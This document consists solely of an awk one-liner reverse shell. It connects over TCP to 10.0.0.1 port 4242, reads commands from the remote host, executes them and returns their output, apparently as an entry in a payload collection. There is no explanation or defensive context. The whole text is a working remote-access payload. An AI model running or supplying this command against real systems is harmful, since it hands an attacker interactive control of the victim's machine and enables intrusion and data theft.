awk 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4242"; while (1) { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }'
